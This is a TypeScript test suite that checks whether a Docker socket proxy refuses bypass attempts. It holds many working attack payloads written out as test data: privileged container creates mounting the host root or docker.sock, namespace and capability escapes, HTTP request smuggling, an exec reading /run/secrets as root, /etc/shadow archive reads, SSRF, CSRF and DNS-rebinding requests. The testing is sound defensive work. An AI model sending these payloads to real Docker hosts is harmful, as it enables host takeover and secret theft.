// Every bypass of research/socketproxy.md §7, sent as exact bytes: each is refused and dockerd receives nothing unjudged.
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_IMAGE, TEST_LABEL, docker } from '../helpers/docker-cli.js';
import { buildRequest, proxyBuilt, rawExchange, startProxyProcess, type ProxyProcess, type RawResponse } from '../helpers/proxy-process.js';
import { startRecordingUpstream, type RecordedRequest, type RecordingUpstream } from '../helpers/recording-upstream.js';

const SUITE_LABEL = 'portcullis.test.suite=proxy-bypass';
const C = `pc-bypass-${process.pid}`;
const HOST = 'Host: localhost:2375';

let rec: RecordingUpstream;
const px: Record<'cp' | 'ro' | 'start' | 'full' | 'locked', ProxyProcess> = {} as never;

/** Sends exact bytes to one proxy; returns the response and what reached dockerd meanwhile. */
async function attack(which: keyof typeof px, bytes: string, opts: { headOnly?: boolean } = {}): Promise<{ res: RawResponse; reached: RecordedRequest[] }> {
  const m = rec.mark();
  const res = await rawExchange(px[which].port, bytes, { timeoutMs: 12_000, ...opts });
  const reached = await rec.settle(m, 120);
  return { res, reached };
}

/** Sends bytes and collects everything until the server closes (for pipelining): the status of each response. */
async function attackAll(which: keyof typeof px, bytes: string, waitMs = 1500): Promise<{ statuses: number[]; raw: string; reached: RecordedRequest[] }> {
  const m = rec.mark();
  const raw = await new Promise<string>((resolve) => {
    let buf = '';
    const s = connect({ port: px[which].port, host: '127.0.0.1' }, () => s.write(bytes));
    const t = setTimeout(() => {
      s.destroy();
      resolve(buf);
    }, waitMs);
    s.on('data', (d: Buffer) => (buf += d.toString('latin1')));
    s.on('close', () => {
      clearTimeout(t);
      resolve(buf);
    });
    s.on('error', () => undefined);
  });
  const reached = await rec.settle(m, 120);
  return { statuses: [...raw.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((x) => Number(x[1])), raw, reached };
}

const req = (method: string, target: string, body?: string, headers: Record<string, string> = {}): string =>
  buildRequest(method, target, { host: 'localhost:2375', headers: { Connection: 'close', ...(body !== undefined ? { 'Content-Type': 'application/json' } : {}), ...headers }, ...(body !== undefined ? { body } : {}) });
const create = (body: string, headers: Record<string, string> = {}): string => req('POST', '/v1.41/containers/create', body, headers);
const lines = (r: RecordedRequest[]): string[] => r.map((x) => `${x.method} ${x.target}`);

/** Asserts a refusal (status in `statuses`) and that dockerd received no request at all. */
function refusedUnseen(out: { res: RawResponse; reached: RecordedRequest[] }, statuses: number[] = [403]): void {
  expect(lines(out.reached)).toEqual([]);
  expect(statuses).toContain(out.res.status);
  if (out.res.status === 403) expect(out.res.body).toMatch(/^\{"message":"portcullis: denied /);
}

const describeBuilt = proxyBuilt() ? describe : describe.skip;

describeBuilt('bypasses of socket proxies are stopped before dockerd', () => {
  beforeAll(async () => {
    rec = await startRecordingUpstream();
    const S = { SOCKET_PATH: rec.socketPath };
    const [cp, ro, start, full, locked] = await Promise.all([
      startProxyProcess({ ...S, CONTAINERS: '1', POST: '1', EXEC: '1' }),
      startProxyProcess({ ...S, CONTAINERS: '1' }),
      startProxyProcess({ ...S, ALLOW_START: '1', POST: '1' }),
      startProxyProcess({
        ...S, CONTAINERS: '1', IMAGES: '1', BUILD: '1', EXEC: '1', SWARM: '1', CONFIGS: '1', VOLUMES: '1', NETWORKS: '1',
        PLUGINS: '1', SERVICES: '1', INFO: '1', POST: '1',
      }),
      startProxyProcess({ ...S, EVENTS: '0', VERSION: '0' }),
    ]);
    Object.assign(px, { cp, ro, start, full, locked });
    const r = await docker(['run', '-d', '--name', C, '--label', TEST_LABEL, '--label', SUITE_LABEL, TEST_IMAGE, 'sleep', '3600']);
    if (r.code !== 0) throw new Error(r.stderr);
  });

  afterAll(async () => {
    await Promise.all(Object.values(px).map((p) => p.stop()));
    await rec?.close();
    const ids = (await docker(['ps', '-aq', '--filter', `label=${SUITE_LABEL}`])).stdout.split('\n').filter(Boolean);
    if (ids.length) await docker(['rm', '-f', ...ids]);
  });

  describe('§7.1 path, method and version tricks', () => {
    it('P1 container create behind a trailing-dot version /v1.41./ has its body checked and never reaches dockerd', async () => {
      refusedUnseen(await attack('cp', req('POST', '/v1.41./containers/create', '{"Image":"alpine","HostConfig":{"Binds":["/:/host"]}}')));
    });
    it('P2 dot-dot and double-slash paths are refused instead of 301-redirected to an unjudged route', async () => {
      for (const t of ['/v1.41/containers/x/json/../../../secrets', '//containers/json', '/./containers/json', '/v1.41/containers/%2e%2e/json']) {
        refusedUnseen(await attack('cp', req('GET', t)), [400, 403]);
      }
    });
    it('P3 an encoded slash is decoded once like Go and only that judged request reaches dockerd', async () => {
      const out = await attack('ro', req('GET', '/v1.41/containers%2Fjson'));
      expect(out.res.status).toBe(200);
      expect(out.reached).toHaveLength(1);
      expect(out.reached[0]!.method).toBe('GET');
    });
    it('P3 NUL and CR/LF escapes in the path are refused', async () => {
      for (const t of ['/v1.41/containers/a%00/json', '/v1.41/containers/a%0d%0aX/json', '/v1.41/containers/a%zz/json']) {
        refusedUnseen(await attack('ro', req('GET', t)), [400, 403]);
      }
    });
    it('P4 an absolute-form target is refused', async () => {
      refusedUnseen(await attack('ro', req('GET', 'http://evil/containers/json')), [400, 403]);
    });
    it('P5 upper-case paths, lower-case and unknown methods are refused', async () => {
      refusedUnseen(await attack('ro', req('GET', '/CONTAINERS/json')), [400, 403]);
      for (const m of ['get', 'FOO', 'TRACE']) refusedUnseen(await attack('cp', req(m, '/containers/json')), [400, 403, 405, 501]);
    });
    it('P5 CONNECT is refused with an answer (not a silent drop) and never reaches dockerd', async () => {
      refusedUnseen(await attack('cp', `CONNECT 127.0.0.1:1 HTTP/1.1\r\n${HOST}\r\n\r\n`), [400, 403, 405, 501]);
    });
    it('P6 archive read of a legacy-link name with a slash (web/db) is classified by suffix and denied', async () => {
      refusedUnseen(await attack('ro', req('GET', '/v1.41/containers/web/db/archive?path=/etc/shadow')));
    });
    it('P7 exec-create hiding as /containers/web/start/exec is not a start and is denied with ALLOW_START', async () => {
      refusedUnseen(await attack('start', req('POST', '/v1.41/containers/web/start/exec', '{"Cmd":["sh"]}')));
    });
    it('P8 an image export path containing /containers/ is not a containers route', async () => {
      refusedUnseen(await attack('ro', req('GET', '/images/a/containers/b/get')));
    });
    it('P9 OPTIONS on create and HEAD on archive (path stat) are denied', async () => {
      refusedUnseen(await attack('cp', req('OPTIONS', '/containers/create')));
      const head = await attack('ro', req('HEAD', `/containers/${C}/archive?path=/`), { headOnly: true });
      expect(lines(head.reached)).toEqual([]);
      expect(head.res.status).toBe(403);
      expect(head.res.headers['x-docker-container-path-stat']).toBeUndefined();
    });
  });

  describe('§7.2 body and JSON tricks', () => {
    const bodies: [string, string][] = [
      ['J1 container create with lower-case hostconfig binds and privileged', '{"Image":"alpine","hostconfig":{"binds":["/:/host"],"privileged":true}}'],
      ['J2 container create with Bindſ (U+017F long s) folding to Binds', '{"Image":"alpine","HostConfig":{"Bind\u017f":["/:/host"]}}'],
      ['J2 container create with NetworKMode (U+212A Kelvin) folding to NetworkMode=host', '{"Image":"alpine","HostConfig":{"Networ\u212aMode":"host"}}'],
      ['J3 container create with Privileged:false then privileged:true', '{"Image":"alpine","HostConfig":{"Privileged":false,"privileged":true}}'],
      ['J4 container create with two HostConfig objects that Go merges', '{"Image":"alpine","HostConfig":{"Binds":["/:/host"]},"HostConfig":{"Memory":0}}'],
      ['J5 container create with an escaped key \\u0042inds', '{"Image":"alpine","HostConfig":{"\\u0042inds":["/:/host"]}}'],
      ['J6 container create with top-level Privileged and Binds (Docker ≤ 26)', '{"Image":"alpine","Privileged":true,"Binds":["/:/host"]}'],
      ['J6 container create with top-level Binds and HostConfig null', '{"Image":"alpine","Binds":["/:/host"],"HostConfig":null}'],
      ['J10 container create with a bind mount of / with rshared propagation', '{"Image":"alpine","HostConfig":{"Mounts":[{"Type":"bind","Source":"/","Target":"/h","BindOptions":{"Propagation":"rshared"}}]}}'],
      ['J10 container create with a local volume o=bind of /', '{"Image":"alpine","HostConfig":{"Mounts":[{"Type":"volume","Target":"/h","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"type":"none","o":"bind","device":"/"}}}}]}}'],
      ['J10 container create with an overlay volume whose lowerdir is /', '{"Image":"alpine","HostConfig":{"Mounts":[{"Type":"volume","Target":"/h","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"type":"overlay","o":"lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w","device":"overlay"}}}}]}}'],
      ['J10 container create with a block-device volume', '{"Image":"alpine","HostConfig":{"Mounts":[{"Type":"volume","Target":"/h","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"type":"ext4","device":"/dev/sda1"}}}}]}}'],
      ['J10 container create with VolumesFrom another container', `{"Image":"alpine","HostConfig":{"VolumesFrom":["${C}"]}}`],
      ['J11 container create with CapAdd SYS_ADMIN', '{"Image":"alpine","HostConfig":{"CapAdd":["SYS_ADMIN"]}}'],
      ['J11 container create with apparmor:unconfined (legacy colon)', '{"Image":"alpine","HostConfig":{"SecurityOpt":["apparmor:unconfined"]}}'],
      ['J11 container create with an inline allow-all seccomp profile', '{"Image":"alpine","HostConfig":{"SecurityOpt":["seccomp={\\"defaultAction\\":\\"SCMP_ACT_ALLOW\\"}"]}}'],
      ['J11 container create with CgroupnsMode host', '{"Image":"alpine","HostConfig":{"CgroupnsMode":"host"}}'],
      ['J12 container create with a raw disk device', '{"Image":"alpine","HostConfig":{"Devices":[{"PathOnHost":"/dev/sda","PathInContainer":"/dev/sda","CgroupPermissions":"rwm"}]}}'],
      ['J12 container create with a block-device cgroup rule', '{"Image":"alpine","HostConfig":{"DeviceCgroupRules":["b *:* rwm"]}}'],
      ['J13 container create with PidMode host', '{"Image":"alpine","HostConfig":{"PidMode":"host"}}'],
      ['J13 container create joining another container\'s network namespace', '{"Image":"alpine","HostConfig":{"NetworkMode":"container:traefik"}}'],
      ['J13 container create with IpcMode host', '{"Image":"alpine","HostConfig":{"IpcMode":"host"}}'],
      ['J13 container create with UsernsMode host', '{"Image":"alpine","HostConfig":{"UsernsMode":"host"}}'],
      ['J14 container create with empty MaskedPaths and ReadonlyPaths', '{"Image":"alpine","HostConfig":{"MaskedPaths":[],"ReadonlyPaths":[]}}'],
      ['container create mounting the Docker socket', '{"Image":"alpine","HostConfig":{"Binds":["/var/run/docker.sock:/var/run/docker.sock"]}}'],
    ];
    for (const [name, body] of bodies) {
      it(`${name} is denied and never reaches dockerd`, async () => {
        refusedUnseen(await attack('cp', create(body)), [400, 403]);
      });
    }

    it('J7 container create with Content-Type parameters or odd case is still inspected', async () => {
      const body = '{"Image":"alpine","hostconfig":{"binds":["/:/host"],"privileged":true}}';
      refusedUnseen(await attack('cp', create(body, { 'Content-Type': 'application/json; charset=utf-8' })));
      refusedUnseen(await attack('cp', create(body, { 'Content-Type': 'Application/JSON' })));
      refusedUnseen(await attack('cp', create(body, { 'Content-Type': 'text/plain' })), [400, 403, 415]);
    });

    it('J8 a privileged create padded past 4 MiB gets 413 and never reaches dockerd', async () => {
      const body = `{"Image":"alpine","HostConfig":{"Privileged":true},"Env":["A=${'x'.repeat(4 * 1024 * 1024)}"]}`;
      refusedUnseen(await attack('cp', create(body)), [413]);
    });

    it('J9 Content-Length: 0 followed by a privileged body never delivers that body to dockerd', async () => {
      const body = '{"Image":"alpine","HostConfig":{"Privileged":true}}';
      const out = await attackAll('cp', `POST /v1.41/containers/create HTTP/1.1\r\n${HOST}\r\nContent-Type: application/json\r\nContent-Length: 0\r\n\r\n${body}`);
      expect(out.reached.filter((r) => r.body.toString().includes('Privileged'))).toEqual([]);
      expect(out.statuses[0]).toBeDefined();
    });

    it('J9 a chunked privileged create is inspected like any other', async () => {
      const body = '{"Image":"alpine","HostConfig":{"Privileged":true}}';
      const chunked = `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
      refusedUnseen(await attack('cp', `POST /v1.41/containers/create HTTP/1.1\r\n${HOST}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunked}`), [400, 403]);
    });

    it('J9 Content-Length together with Transfer-Encoding is refused', async () => {
      const body = '{"Image":"alpine","HostConfig":{"Privileged":true}}';
      const chunked = `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
      refusedUnseen(await attack('cp', `POST /v1.41/containers/create HTTP/1.1\r\n${HOST}\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunked}`), [400]);
    });

    it('J10 a local volume create with o=bind of / is denied', async () => {
      refusedUnseen(await attack('full', req('POST', '/v1.41/volumes/create', '{"Name":"pc-bypass-vol","Driver":"local","DriverOpts":{"type":"none","o":"bind","device":"/"}}')));
    });

    it('J17 a privileged exec-create is denied and never reaches dockerd', async () => {
      refusedUnseen(await attack('cp', req('POST', `/v1.41/containers/${C}/exec`, '{"Cmd":["sh","-c","cat /run/secrets/*"],"Privileged":true,"User":"0","AttachStdout":true}')));
    });

    it('a checked create is forwarded re-serialised: dockerd receives exactly the judged body', async () => {
      const out = await attack('cp', create('{"Image":"portcullis-test/doesnotexist:none","Labels":{"portcullis.test":"1"}}'));
      expect(out.res.status).toBe(404);
      expect(lines(out.reached)).toEqual(['POST /v1.41/containers/create']);
      expect(JSON.parse(out.reached[0]!.body.toString())).toMatchObject({ Image: 'portcullis-test/doesnotexist:none' });
    });

    it.todo('J15 label injection (traefik.*, socket-proxy.allow.*) — no label policy in the proxy contract yet');
    it.todo('J16 joining the proxy network with a static IP — no network-join policy in the proxy contract yet');
  });

  describe('§7.3 query and form tricks', () => {
    it('Q1 a form-encoded body that would override the judged fromImage query is refused', async () => {
      const out = await attack('full', req('POST', '/v1.41/images/create?fromImage=127.0.0.1:1/ok&tag=1', 'fromImage=127.0.0.1:1/evil&tag=latest', { 'Content-Type': 'application/x-www-form-urlencoded' }));
      refusedUnseen(out, [400, 403]);
    });
    it('Q2 attach/ws with stdin=0&stdin=1 is denied whatever the stdin flag says', async () => {
      refusedUnseen(await attack('cp', req('GET', `/v1.41/containers/${C}/attach/ws?stdin=0&stdin=1&stream=1`)));
    });
    it('Q3 image import fromSrc=<URL> (server-side request forgery) is denied', async () => {
      refusedUnseen(await attack('full', req('POST', '/v1.41/images/create?fromSrc=http://127.0.0.1:1/latest/meta-data/&repo=x')));
    });
    it('Q4 build with remote=<URL> and networkmode=host is denied', async () => {
      refusedUnseen(await attack('full', req('POST', '/v1.41/build?remote=http://127.0.0.1:1/ctx.tar&networkmode=host', '')));
      refusedUnseen(await attack('full', req('POST', '/v1.41/build?networkmode=host', '', { 'Content-Type': 'application/x-tar' })));
    });
  });

  describe('§7.4 hijack, upgrade and smuggling', () => {
    const privileged = '{"Image":"alpine","HostConfig":{"Privileged":true}}';
    const smuggled = `POST /v1.41/containers/create HTTP/1.1\r\n${HOST}\r\nContent-Type: application/json\r\nContent-Length: ${privileged.length}\r\n\r\n${privileged}`;

    it('U1 a fake upgrade on /_ping cannot smuggle a privileged create behind it', async () => {
      const out = await attackAll('cp', `GET /_ping HTTP/1.1\r\n${HOST}\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n${smuggled}`);
      expect(out.reached.filter((r) => r.target.includes('create'))).toEqual([]);
      expect(out.statuses[0]).toBe(400);
    });
    it('U2 a create carrying Connection: Upgrade is not waved through the upgrade path uninspected', async () => {
      refusedUnseen(await attack('cp', create(privileged, { Connection: 'Upgrade', Upgrade: 'tcp' })), [400, 403]);
    });
    it('U3 attach without Upgrade cannot turn the rest of the connection into unjudged requests', async () => {
      const out = await attackAll('cp', `POST /v1.41/containers/doesnotexist/attach?stream=1&stdin=1 HTTP/1.1\r\n${HOST}\r\nContent-Length: 0\r\n\r\n${smuggled}`);
      expect(out.reached.filter((r) => r.target.includes('create'))).toEqual([]);
    });
    it('U4 attach/ws (stdin injection with a GET) is denied with CONTAINERS=1 POST=0', async () => {
      refusedUnseen(await attack('ro', req('GET', `/v1.41/containers/${C}/attach/ws?stream=1`, undefined, { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version': '13' })));
    });
    it('U5 h2c tunnels into BuildKit (/grpc, /session) are denied without GRPC/SESSION', async () => {
      for (const t of ['/grpc', '/session']) refusedUnseen(await attack('full', req('POST', t, undefined, { Connection: 'Upgrade', Upgrade: 'h2c' })), [400, 403]);
    });
    it('U6 a pipelined privileged create after an allowed ping is judged on its own', async () => {
      const out = await attackAll('cp', `GET /_ping HTTP/1.1\r\n${HOST}\r\n\r\n${smuggled.replace('\r\n\r\n', '\r\nConnection: close\r\n\r\n')}`);
      expect(out.statuses).toEqual([200, 403]);
      expect(lines(out.reached)).toEqual(['GET /_ping']);
    });
    it('U6 duplicate Content-Length, negative Content-Length and bare-LF heads are refused', async () => {
      const cases = [
        `POST /v1.41/containers/create HTTP/1.1\r\n${HOST}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: ${privileged.length}\r\n\r\n${privileged}`,
        `POST /v1.41/containers/create HTTP/1.1\r\n${HOST}\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n${privileged}`,
        `POST /v1.41/containers/create HTTP/1.1\n${HOST}\nContent-Type: application/json\nContent-Length: ${privileged.length}\n\n${privileged}`,
      ];
      for (const c of cases) {
        const out = await attackAll('cp', c);
        expect(out.reached.filter((r) => r.target.includes('create'))).toEqual([]);
        expect([400, 403]).toContain(out.statuses[0]);
      }
    });
    it.todo('U7 per-client caps on idle hijacked/streaming connections — not in the proxy contract yet');
  });

  describe('§7.5 GET endpoints that are not harmless', () => {
    it('R1 container archive read (docker cp out) is denied without ALLOW_ARCHIVE_READ', async () => {
      refusedUnseen(await attack('ro', req('GET', `/v1.41/containers/${C}/archive?path=/etc/shadow`)));
    });
    it('R2 container export is denied without ALLOW_EXPORT', async () => {
      refusedUnseen(await attack('ro', req('GET', `/v1.41/containers/${C}/export`)));
    });
    it('R3 container inspect (env secrets) is denied without CONTAINERS', async () => {
      refusedUnseen(await attack('locked', req('GET', `/v1.41/containers/${C}/json`)));
    });
    it('R4 container logs are denied without CONTAINERS', async () => {
      refusedUnseen(await attack('locked', req('GET', `/v1.41/containers/${C}/logs?stdout=1&stderr=1`)));
    });
    it('R5 image export (/images/get, /images/{name}/get) is denied without ALLOW_EXPORT', async () => {
      refusedUnseen(await attack('full', req('GET', `/v1.41/images/get?names=${TEST_IMAGE}`)));
      refusedUnseen(await attack('full', req('GET', `/v1.41/images/${TEST_IMAGE}/get`)));
    });
    it('R6 GET /swarm (manager join token) is denied with SWARM=1 alone', async () => {
      refusedUnseen(await attack('full', req('GET', '/v1.41/swarm')));
    });
    it('R7 GET /swarm/unlockkey is denied with SWARM=1 alone', async () => {
      refusedUnseen(await attack('full', req('GET', '/v1.41/swarm/unlockkey')));
    });
    it('R8 config inspect (Data) is denied without CONFIGS', async () => {
      refusedUnseen(await attack('locked', req('GET', '/v1.41/configs/someid')));
    });
    it('R9 the events stream is denied with EVENTS=0', async () => {
      refusedUnseen(await attack('locked', req('GET', '/v1.41/events')));
    });
    it('R10 /debug/pprof and /debug/vars are never allowed', async () => {
      for (const t of ['/debug/pprof/heap', '/debug/vars', '/v1.41/debug/vars']) refusedUnseen(await attack('full', req('GET', t)), [400, 403]);
    });
  });

  describe('§7.6 writes that grant root beyond containers', () => {
    it('service create with a bind mount of / is denied', async () => {
      refusedUnseen(await attack('full', req('POST', '/v1.41/services/create', '{"Name":"pc-x","TaskTemplate":{"ContainerSpec":{"Image":"alpine","Mounts":[{"Type":"bind","Source":"/","Target":"/h"}]}}}')));
    });
    it('plugin pull accepting mount and capability privileges is denied', async () => {
      refusedUnseen(await attack('full', req('POST', '/v1.41/plugins/pull?remote=127.0.0.1:1/attacker/plugin&name=x', '[{"Name":"mount","Value":["/"]},{"Name":"capabilities","Value":["CAP_SYS_ADMIN"]}]')));
    });
    it('swarm join to an attacker manager is denied without ALLOW_PRIVILEGED', async () => {
      refusedUnseen(await attack('full', req('POST', '/v1.41/swarm/join', '{"RemoteAddrs":["127.0.0.1:1"],"JoinToken":"SWMTKN-1-x","ListenAddr":"127.0.0.1:2377"}')));
    });
    it('a macvlan network create is denied without ALLOW_HOST_NAMESPACES', async () => {
      refusedUnseen(await attack('full', req('POST', '/v1.41/networks/create', '{"Name":"pc-l2","Driver":"macvlan","Options":{"parent":"eth0"}}')));
    });
  });

  describe('§7.7 T1 browser CSRF and DNS rebinding', () => {
    it('a request with an Origin header (CSRF from a web page) is denied', async () => {
      refusedUnseen(await attack('full', req('POST', '/v1.41/build?remote=https://evil.example/x.tar', '', { Origin: 'https://evil.example' })));
      refusedUnseen(await attack('ro', req('GET', '/v1.41/containers/json', undefined, { Origin: 'null' })));
    });
    it('a request with Sec-Fetch-* headers is denied', async () => {
      refusedUnseen(await attack('ro', req('GET', '/v1.41/containers/json', undefined, { 'Sec-Fetch-Mode': 'no-cors' })));
      refusedUnseen(await attack('ro', req('GET', '/v1.41/containers/json', undefined, { 'Sec-Fetch-Site': 'cross-site' })));
    });
    it('a dotted foreign Host (DNS rebinding) is denied', async () => {
      refusedUnseen(await attack('ro', buildRequest('GET', '/v1.41/containers/json', { host: 'rebind.evil.example:2375', headers: { Connection: 'close' } })));
    });
    it('loopback, api.moby.localhost, IP and single-label Host values are accepted', async () => {
      for (const host of ['localhost:2375', '127.0.0.1:2375', 'api.moby.localhost', 'socket-proxy:2375', '[::1]:2375']) {
        const out = await attack('ro', buildRequest('GET', '/v1.41/containers/json', { host, headers: { Connection: 'close' } }));
        expect({ host, status: out.res.status }).toEqual({ host, status: 200 });
        expect(lines(out.reached)).toEqual(['GET /v1.41/containers/json']);
      }
    });
  });
});
